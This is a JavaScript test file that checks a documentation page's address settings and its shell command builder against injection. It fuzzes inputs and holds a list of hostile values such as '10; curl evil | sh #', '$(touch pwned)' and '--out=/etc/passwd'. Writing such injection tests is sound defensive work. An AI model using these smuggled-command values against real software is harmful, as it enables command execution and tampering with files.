// Settings in the address: their allowed values, and that no displayed command can be made to contain anything else.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { require } from "./program.mjs";

// The page's module without its types.
const typescript = require("typescript");
const compiled = (path) => typescript.transpileModule(readFileSync(new URL(`../../docs/explorer/src/${path}.ts`, import.meta.url), "utf8"), { compilerOptions: { module: "ESNext", target: "ES2022" } }).outputText;
const address = (code) => `data:text/javascript,${encodeURIComponent(code)}`;
const settingsModule = address(compiled("settings"));
const { commandLine, named, number, oneOf, rates, shellWord, text, weights, whole, wrongSettings } = await import(settingsModule);

// A view of the page without its drawing: modules imported for drawing are empty objects. `names`: functions that replace imports.
async function viewOf(path, ...names) {
  const drawn = (code) => code.replace(/^import (.*) from "(.*)";$/gm, (line, what, from) => {
    if (/settings$/.test(from)) return `import ${what} from ${JSON.stringify(settingsModule)};`;
    if (/\/view$/.test(from)) return `import ${what} from ${JSON.stringify(workloadModule)};`;
    return what.startsWith("*") ? `const ${what.replace("* as ", "")} = {};` : `const ${what.replace(/\bas\b/g, ":")} = {};`;
  });
  const workloadModule = address(drawn(compiled("view")));
  return import(address(`${drawn(compiled(path))}\nexport { ${names.join(", ")} };`));
}

const hostile = ["10; curl evil | sh #", "$(touch pwned)", "`touch pwned`", "a'b", 'a"b', "a\nb", "a\\", "", " ", "~", "*", "-x", "--out=/etc/passwd", "a&b", "a|b", "a>b", "ä", "\u202e", "!x", "{a,b}", "#", "a b", "1e999", "0x10", "NaN", "Infinity", "1;", "constructor", "__proto__"];
const parts = { model: ["llama-3.1-8b"], verifier: [{ name: "token" }] };

test("a word comes out of a shell as it went in", () => {
  for (const word of [...hostile, ...hostile.map((own) => `x${own}y`)]) {
    const out = execFileSync("bash", ["-c", `printf '%s\\0' ${commandLine(["a", word, "b"])}`], { encoding: "utf8" });
    assert.deepEqual(out.split("\0").slice(0, -1), ["a", word, "b"], shellWord(word));
  }
  assert.equal(commandLine(["specsim", "plan", "--position-rates", "0.7,0.45", "--set", "a.b=c"]), "specsim plan --position-rates 0.7,0.45 --set a.b=c");
});

test("nothing hostile is a number, a whole number, a choice or a name", () => {
  for (const value of hostile)
    for (const [kind, allowed] of Object.entries({ number: number(-1e9, 1e9), whole: whole(0, 1e9), oneOf: oneOf("fixed", "goodput"), named: named("model", "none"), rule: named("verifier") }))
      assert.notEqual(allowed(value, parts), "", `${kind} takes ${JSON.stringify(value)}`);
  for (const value of hostile.filter((own) => own.trim() !== "" && !/^[-+0-9eE.%]+$/.test(own))) {
    assert.notEqual(rates(value, parts), "", `rates take ${JSON.stringify(value)}`);
    if (!/^[0-9;]*$/.test(value)) assert.notEqual(weights(value, parts), "", `weights take ${JSON.stringify(value)}`);
  }
});

test("what a view writes itself is taken", () => {
  for (const value of ["0", "1", "0.7", "1e-7", "2.5e+21", "-3"]) assert.equal(number(-5, 1e30)(value, parts), "", value);
  for (const value of ["0", "16", "100000"]) assert.equal(whole(0, 1e6)(value, parts), "", value);
  assert.equal(oneOf("", "yes")("", parts), "");
  assert.equal(named("model", "none")("none", parts) + named("model")("llama-3.1-8b", parts) + named("verifier")("token", parts), "");
  assert.equal(rates("70%, 45%,0.31", parts) + weights("5,3,2;4,4,2e-3", parts) + text("any; $(thing)", parts), "");
});

test("every wrong setting is reported with the allowed values", () => {
  const checks = { longest: whole(1, 32), gpus: oneOf("1", "2"), batch: whole(1, 512) };
  assert.deepEqual(wrongSettings({ longest: "10; curl x | sh #", gpus: "1", batch: "0", other: ";" }, checks, parts), ['longest: "10; curl x | sh #", allowed: a whole number in [1, 32]', 'batch: "0", allowed: a whole number in [1, 512]']);
  assert.deepEqual(wrongSettings({ __proto__: null, constructor: "x", toString: "y" }, checks, parts), []);
});

// Random settings that a page's address may hold: those that a view writes itself, these with a few characters inserted, deleted or appended, and
// texts of any characters.
function random(seed) {
  let state = seed;
  const next = (count) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * count);
  };
  const pick = (list) => list[next(list.length)];
  const bits = [..."0123456789.,-+eE% ;|&$`'\"\\\n\r\t\0(){}[]<>*?~!#=/:@^ä\u202e\u2028\ud800\uffff", "--out=", "$(", "; sh ", "../", "NaN", "Infinity", "1e", "0x"];
  const character = () => (next(8) === 0 ? String.fromCharCode(next(0x3000)) : pick(bits));
  const changed = (value) => {
    let own = [...value];
    for (let i = next(3) + 1; i > 0; --i) own.splice(next(own.length + 1), next(2), ...(next(4) > 0 ? [character()] : []));
    return own.join("");
  };
  const any = () => Array.from({ length: next(12) }, character).join("");
  return { next, pick, changed, any };
}

for (const [path, commandOf] of [["views/decide", "acceptanceOptions, workloadOptions"], ["views/serve", "command"]])
  test(`an address has a meaning or is refused: ${path}`, async () => {
    const names = { hardware: ["h100-sxm", "l4"], model: ["llama-3.1-8b", "llama-3.2-1b", "eagle-head-8b"], engine: ["vllm"], acceptance: ["eagle-vicuna-7b-chat"], verifier: ["token"] };
    const module = await viewOf(path, ...commandOf.split(", "));
    const view = Object.values(module).find((own) => own?.allowed !== undefined);
    assert.deepEqual(wrongSettings(view.defaults, view.allowed, names), [], "what the view has at first");
    assert.deepEqual(Object.keys(view.defaults).filter((key) => view.allowed[key] === undefined), [], "settings that nothing checks");
    const words = (settings) =>
      path === "views/serve" ? module.command(settings) : commandLine(["specsim", "plan", ...module.workloadOptions(settings), ...module.acceptanceOptions(settings), "--longest", settings.longest]);
    const draw = random(20261129);
    const keys = Object.keys(view.defaults);
    const lines = [];
    let refused = 0;
    for (let turn = 0; turn < 20000; ++turn) {
      const given = {};
      for (let i = draw.next(2) + 1; i > 0; --i) {
        const key = draw.pick(keys);
        const usual = [view.defaults[key], "alpha", "position_rates", "rate", "line", "gpu", "concurrency", "fixed", "2", "0.5", "none", "yes", "vllm", "0.7, 45%"];
        const from = draw.next(3) > 0 ? view.defaults[key] : draw.pick(usual);
        given[key] = draw.next(3) === 0 ? from : draw.next(3) > 0 ? draw.changed(from) : draw.any();
      }
      // In the address's encoding: lone surrogates do not survive it.
      const read = Object.fromEntries(new URLSearchParams(new URLSearchParams(given).toString()));
      if (wrongSettings(read, view.allowed, names).length > 0) {
        ++refused;
        continue;
      }
      lines.push(words({ ...view.defaults, ...read }));
    }
    assert.ok(refused > 1000 && lines.length > 1000, `${refused} refused, ${lines.length} taken`);
    // A shell must split all of these lines into words of harmless characters, with options where options are, and no other command.
    const shell = lines.map((line) => `words ${line.replaceAll("\n", " ")}`).join("\n");
    assert.doesNotMatch(lines.join(""), /[\n\r\0`$]/);
    const out = execFileSync("bash", ["-s"], { input: `set -eu; PATH=; words() { printf '%s\\x01' "$@"; printf '\\x02'; }\n${shell}\n`, encoding: "utf8", maxBuffer: 1e9 });
    const told = out.split("\x02").slice(0, -1).map((line) => line.split("\x01").slice(0, -1));
    assert.equal(told.length, lines.length);
    for (const [i, list] of told.entries()) {
      assert.equal(commandLine(list), lines[i]);
      assert.deepEqual(list.slice(0, 2), ["specsim", path === "views/serve" ? "serve" : "plan"]);
      for (let at = 2; at < list.length; at += 2) {
        assert.match(list[at], /^--[a-z-]+$/, lines[i]);
        assert.match(list[at + 1], /^[A-Za-z0-9_.,%+:{}=\[\] -]*$/, lines[i]);
        assert.doesNotMatch(list[at + 1], /^--/, lines[i]);
      }
    }
  });

test("commands are put together from words", () => {
  for (const name of ["decide", "serve"]) {
    const source = readFileSync(new URL(`../../docs/explorer/src/views/${name}.ts`, import.meta.url), "utf8");
    assert.match(source, new RegExp(`commandLine\\(|\\["specsim", "${name === "decide" ? "plan" : "serve"}"`));
    assert.doesNotMatch(source, /[`"]specsim (plan|serve) /);
  }
});
